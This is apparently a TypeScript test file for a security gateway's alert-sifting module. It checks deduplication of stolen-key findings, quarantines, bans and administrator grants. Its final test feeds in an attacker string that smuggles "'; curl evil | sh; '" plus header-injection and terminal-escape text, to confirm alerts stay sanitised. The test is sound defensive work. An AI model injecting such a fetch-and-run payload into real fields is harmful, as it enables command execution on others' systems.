import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Notice } from '../kernel/export.ts';
import type { ChangeRecord, FindingRecord, HoldRecord } from '../kernel/record.ts';
import { createSift } from './sift.ts';

const notice = (event: string, more: Partial<Notice> = {}): Notice => ({
  ...{ timeMs: 1, event, severity: 'warning', subject: 'gateway', tenant: undefined, facts: {} },
  ...more,
});
const found = (held: boolean, facts: Notice['facts'] = {}): Notice =>
  notice('anomaly', {
    ...{ subject: 'subject:key:Ab12Cd', tenant: 'default' },
    facts: { rule: 'stolen-key', subject: 'key:Ab12Cd', why: '41 a minute', held, ...facts },
  });
const finding: FindingRecord = {
  ...{ kind: 'finding', timeMs: 1, rule: 'stolen-key', subject: 'key:Ab12Cd', tenant: 'default', score: 1 },
  ...{ why: '41 a minute', requestId: undefined },
};
const hold = (activity: HoldRecord['activity'], subject = 'key:Ab12Cd'): HoldRecord => ({
  ...{ kind: 'hold', timeMs: 2, activity, subject, tenant: 'default', reason: 'stolen-key', untilMs: undefined },
});
const change = (more: Partial<ChangeRecord>): ChangeRecord => ({
  ...{ kind: 'change', timeMs: 1, resource: 'api-keys', id: 'Ab12Cd', tenant: 'default', operation: 'create' },
  ...{ actor: { id: 'command', tenant: undefined, address: undefined }, before: undefined, after: undefined },
  ...more,
});

test('a finding is told once, though it is both a record and a line of the log', () => {
  const sift = createSift();
  assert.equal(sift.ofRecord(finding), undefined);
  const alert = sift.ofNotice(found(false));
  assert.deepEqual([alert?.event, alert?.subject, alert?.severity], ['stolen-key', 'key:Ab12Cd', 'warning']);
  assert.deepEqual(alert?.todo, ['sallyport incident key:Ab12Cd', 'sallyport quarantine hold key:Ab12Cd']);
});

test('a credential that is held is told once, with why, and its change by the gateway is nothing of its own', () => {
  const sift = createSift();
  assert.equal(sift.ofNotice(found(true)), undefined);
  const own = change({ resource: 'quarantine', actor: { id: 'gateway', tenant: undefined, address: undefined } });
  assert.equal(sift.ofRecord(own), undefined);
  const alert = sift.ofRecord(hold('quarantine'));
  assert.deepEqual([alert?.event, alert?.severity, alert?.why], ['quarantine', 'critical', 'stolen-key: 41 a minute']);
  assert.ok(alert?.todo.includes('sallyport quarantine release key:Ab12Cd'));
});

test('a hold by hand is told, and its release is the end of the same thing', () => {
  const sift = createSift();
  const by = (operation: string) => sift.ofRecord(change({ resource: 'quarantine', id: 'key:Ab12Cd', operation }));
  const [held, released] = [by('hold'), by('release')];
  assert.deepEqual([held?.isResolved, released?.isResolved], [false, true]);
  assert.equal(held?.key, released?.key);
});

test('what the authorization server takes for an attack is told under its own name', () => {
  const sift = createSift();
  for (const what of ['user_code_guessing', 'passkey_counter_backwards', 'form_from_elsewhere', 'federation_state']) {
    const alert = sift.ofNotice(notice('security', { facts: { what, requestId: 'r1' } }));
    assert.equal(alert?.event, what);
    assert.doesNotMatch(alert.title, /The gateway warns/);
  }
});

test('what another instance holds is told by that one alone, and what it releases ends what was told here', () => {
  const sift = createSift();
  assert.equal(sift.ofRecord({ ...hold('quarantine'), from: 'node-1:8443' }), undefined);
  const [held, released] = [sift.ofRecord(hold('quarantine')), sift.ofRecord({ ...hold('release'), from: 'b:1' })];
  assert.deepEqual([held?.isResolved, released?.isResolved], [false, true]);
  assert.deepEqual([released?.key, released?.group], [held?.key, held?.group]);
});

test('a ban is told by its record alone, and a lift ends it', () => {
  const sift = createSift();
  assert.equal(sift.ofNotice(notice('ban', { facts: { address: '192.0.2.7' } })), undefined);
  const [begun, lifted] = [sift.ofRecord(hold('ban', '192.0.2.7')), sift.ofRecord(hold('lift', '192.0.2.7'))];
  assert.deepEqual(begun?.todo, ['sallyport incident 192.0.2.7', 'sallyport bans lift 192.0.2.7']);
  assert.equal(begun?.key, lifted?.key);
  assert.equal(lifted?.isResolved, true);
});

test('a refresh token that comes again is told as the finding that it is, and not as a line of the log', () => {
  const sift = createSift();
  assert.equal(sift.ofNotice(notice('security', { facts: { what: 'refresh_token_reused' } })), undefined);
  assert.equal(sift.ofNotice(found(false, { rule: 'refresh-reuse' }))?.event, 'refresh-reuse');
});

for (const [begin, end] of [
  ['audit_log_failing', 'audit_log_recovered'],
  ['counters_down', 'counters_up'],
  ['issuer_unreachable', 'issuer_recovered'],
] as const)
  test(`${end} is the end of ${begin}`, () => {
    const sift = createSift();
    const [one, other] = [sift.ofNotice(notice(begin)), sift.ofNotice(notice(end, { severity: 'info' }))];
    assert.equal(one?.key, other?.key);
    assert.deepEqual([one?.isResolved, other?.isResolved], [false, true]);
  });

test('records that are missing are critical, and a start is nothing', () => {
  const sift = createSift();
  const lifecycle = { kind: 'lifecycle', timeMs: 1, detail: { lost: 3 } } as const;
  const gap = sift.ofRecord({ ...lifecycle, activity: 'gap' });
  assert.deepEqual([gap?.severity, gap?.why], ['critical', 'lost: 3']);
  assert.equal(sift.ofRecord({ ...lifecycle, activity: 'start' }), undefined);
});

test('whoever can administer from now on is told of, and nobody else', () => {
  const sift = createSift();
  const admin = sift.ofRecord(change({ after: { scopes: ['admin:write', 'models:read'] } }));
  assert.equal(admin?.title, 'An API key has got rights of an administrator');
  assert.equal(sift.ofRecord(change({ after: { scopes: ['models:read'] } })), undefined);
  const had = { before: { scopes: ['admin:write'] }, after: { scopes: ['admin:write', 'models:read'] } };
  assert.equal(sift.ofRecord(change({ ...had, operation: 'update' })), undefined);
  assert.ok(sift.ofRecord(change({ resource: 'silences', id: 'sil_1' })));
  assert.ok(sift.ofRecord(change({ resource: 'audit-log', id: 'acme', operation: 'erase' })));
  const byRole = change({ after: { roles: ['operators'] }, gained: ['admin:write'] });
  assert.match(sift.ofRecord(byRole)?.title ?? '', /rights of an administrator/);
  assert.equal(sift.ofRecord(change({ after: { roles: ['readers'] }, gained: ['audit:read'] })), undefined);
  assert.ok(sift.ofRecord(change({ resource: 'signing-keys', id: '', operation: 'rotate' })));
});

test('a notice of a name that nobody knows is told with its name and facts', () => {
  const alert = createSift().ofNotice(notice('new_thing', { facts: { why: 'no idea', list: ['x'], n: 3 } }));
  assert.deepEqual([alert?.title, alert?.why], ['The gateway warns: new thing', 'why: no idea; n: 3']);
});

test('text of attackers in every field stays one line, bounded, and a word of the commands to copy', () => {
  const evil = `x\r\nBcc: a@b\x1b[2J<!channel>'; curl evil | sh; '\u202e${'y'.repeat(1024 * 1024)}`;
  const sift = createSift();
  const alerts = [
    sift.ofNotice(notice(evil, { subject: evil, tenant: evil, facts: { [evil]: evil } })),
    sift.ofNotice(notice('anomaly', { tenant: evil, facts: { rule: evil, subject: evil, why: evil, held: false } })),
    sift.ofRecord({ ...hold('ban', evil), reason: evil, tenant: evil }),
    sift.ofRecord({ ...hold('quarantine', evil), reason: evil }),
    sift.ofRecord(
      change({ resource: 'quarantine', operation: 'hold', id: evil, actor: { id: evil, tenant: evil, address: evil } }),
    ),
    sift.ofRecord(change({ resource: 'users', id: evil, tenant: evil, after: { scopes: ['admin:write'] } })),
  ];
  for (const alert of alerts) {
    assert.ok(alert);
    const text = JSON.stringify(alert);
    assert.ok(text.length < 8_000, String(text.length));
    assert.doesNotMatch(text, /\\[rn]|\\u00|\u202e/);
    for (const line of alert.todo) assert.doesNotMatch(line.replaceAll(`'\\''`, '').replace(/'[^']*'/g, ''), /[;|<>]/);
  }
});
